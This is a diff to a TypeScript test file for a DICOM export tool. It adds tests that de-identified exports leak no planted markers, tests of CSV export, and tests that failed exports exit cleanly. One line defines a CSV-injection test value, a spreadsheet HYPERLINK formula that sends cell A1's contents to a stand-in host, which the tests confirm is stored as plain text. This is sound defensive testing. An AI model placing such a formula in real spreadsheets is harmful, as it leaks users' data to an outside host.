@@ -36,6 +36,22 @@ const UIDS = {
   frame: '1.2.826.0.1.3680043.8.498.4242003',
   sop: (k: number) => `1.2.826.0.1.3680043.8.498.4242010.${k + 1}`,
 };
+/** Every marker planted in the source study's text; none may appear in a de-identified export. */
+const MARKERS = [
+  'Zqxfamily',
+  'Qwgiven',
+  '赵钱孙',
+  'ZQXPID4471',
+  'ZQXOTHER88',
+  'ZQXACC991',
+  'Zqxinstitute',
+  'Zqxstreet',
+  'Zqxreferrer',
+  'zqxstudydesc',
+  'zqxseriesdesc',
+  'zqxprivate',
+  'zqxnested',
+];
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 const HOSTILE = 'a, "quoted"\nsecond line, 肝脏病变，边界清楚';
 
@@ -76,6 +92,41 @@ for k in range(4):
   });
   if (result.status !== 0) throw new Error(result.stderr);
   return [0, 1, 2, 3].map((k) => path.join(dir, `${k}.dcm`));
+}
+
+const files = (dir: string): string[] =>
+  fs
+    .readdirSync(dir, { recursive: true, withFileTypes: true })
+    .filter((e) => e.isFile())
+    .map((e) => path.join(e.parentPath, e.name));
+
+/** Every byte an export holds (inflated .gz) and every file and folder name under it. */
+function everything(dir: string): Buffer {
+  const parts: Buffer[] = [
+    Buffer.from(
+      files(dir)
+        .map((f) => path.relative(dir, f))
+        .join('\n'),
+    ),
+  ];
+  for (const file of files(dir)) {
+    const bytes = fs.readFileSync(file);
+    parts.push(file.endsWith('.gz') ? zlib.gunzipSync(bytes) : bytes);
+  }
+  return Buffer.concat(parts);
+}
+
+/** The needles a leak would show as: ASCII case-folded, UTF-8 and GB18030 for the Hanzi. */
+function leaks(bytes: Buffer, extra: string[] = []): string[] {
+  const lower = Buffer.from(bytes.toString('latin1').toLowerCase(), 'latin1');
+  const found: string[] = [];
+  for (const marker of [...MARKERS, ...extra]) {
+    const needles = [Buffer.from(marker.toLowerCase(), 'utf8')];
+    if ([...marker].some((ch) => ch.charCodeAt(0) > 0x7f))
+      needles.push(Buffer.from([0xd5, 0xd4, 0xc7, 0xae, 0xcb, 0xef])); // 赵钱孙 in GB18030
+    if (needles.some((needle) => lower.includes(needle))) found.push(marker);
+  }
+  return found;
 }
 
 /** A CSV file read by Python's csv module (utf-8-sig): a list of rows. */
@@ -203,6 +254,28 @@ beforeAll(async () => {
 
 afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));
 
+describe('--deid: no marker of the source study leaves in any format', () => {
+  const originalUids = [UIDS.study, UIDS.series, UIDS.frame, ...[0, 1, 2, 3].map(UIDS.sop)];
+  for (const format of ['sr', 'seg', 'nifti', 'nnunet', 'csv', 'json'] as const)
+    it(format, async () => {
+      const out = path.join(scratch, `deid-${format}`);
+      const run = await cli('export', '--format', format, out, '--study', UIDS.study, '--deid');
+      expect(run.status, run.stderr).toBe(0);
+      expect(files(out).length).toBeGreaterThan(1);
+      const all = everything(out);
+      expect(leaks(all, originalUids)).toEqual([]);
+      // The output is still what was asked for.
+      if (format === 'sr' || format === 'seg')
+        expect(
+          files(out).filter((f) => fs.readFileSync(f).subarray(128, 132).toString() === 'DICM'),
+        ).toHaveLength(1);
+      if (format === 'csv') expect(all.toString('utf8')).toContain('9.7468');
+      if (format === 'json') expect(all.toString('utf8')).toContain('nodule');
+      // The CLI's own output names no marker either.
+      expect(leaks(Buffer.from(run.stdout + run.stderr))).toEqual([]);
+    });
+});
+
 describe('CSV: formulas are text and every value reads back', () => {
   it('a spreadsheet gets no formula; Python csv (utf-8-sig) reads the stored values back', async () => {
     const out = path.join(scratch, 'csv');
@@ -227,5 +300,53 @@ describe('CSV: formulas are text and every value reads back', () => {
     const attributes = JSON.parse(length[header.indexOf('attributes')]!) as Record<string, string>;
     expect(attributes['comment']).toContain(HOSTILE);
     expect(attributes['sign']).toBe('-2+3');
+  });
+});
+
+describe('failures: said per item, the right exit status, no half-written file', () => {
+  it('an output path that cannot be a folder ends with a clear error (exit 3), nothing written', async () => {
+    const blocker = path.join(scratch, 'a-file');
+    fs.writeFileSync(blocker, 'x');
+    const run = await cli('export', '--format', 'json', path.join(blocker, 'out'));
+    expect(run.status).toBe(3);
+    expect(run.stderr).toMatch(/output/i);
+    expect(run.stderr).not.toMatch(/at .*\.ts:\d+/);
+  });
+
+  it('an nnU-Net dataset is not written over another one', async () => {
+    const out = path.join(scratch, 'nnunet-twice');
+    expect((await cli('export', '--format', 'nnunet', out)).status).toBe(0);
+    const before = files(out).sort();
+    const run = await cli('export', '--format', 'nnunet', out);
+    expect(run.status).toBe(3);
+    expect(run.stderr).toMatch(/already holds an nnU-Net dataset/);
+    expect(files(out).sort()).toEqual(before);
+  });
+
+  it('a study whose images vanished from the store is said, the other study is exported (exit 1)', async () => {
+    // Remove one stored image of the marker study (the store is the data folder's).
+    const services = openTestServices(dataDir);
+    let removed = '';
+    try {
+      const stored = services.instanceFile(UIDS.sop(2));
+      expect(stored).not.toBeNull();
+      removed = stored!.path;
+    } finally {
+      await services.close();
+    }
+    fs.rmSync(removed);
+    for (const format of ['sr', 'seg', 'nifti'] as const) {
+      const out = path.join(scratch, `vanished-${format}`);
+      const run = await cli('export', '--format', format, out);
+      expect(run.status, `${format}: ${run.stderr}`).toBe(1);
+      expect(run.stderr).toMatch(/not in the store/);
+      expect(run.stdout).toMatch(/2\/2 studies/);
+      // Nothing of the marker study under a final name, nothing half-written anywhere.
+      expect(files(out).filter((f) => f.endsWith('.partial'))).toEqual([]);
+      expect(files(out).some((f) => f.includes(UIDS.study))).toBe(false);
+    }
+    // The fixture study (with no annotations) still counts as done; JSON of both is complete.
+    const json = path.join(scratch, 'vanished-json');
+    expect((await cli('export', '--format', 'json', json)).status).toBe(0);
   });
 });
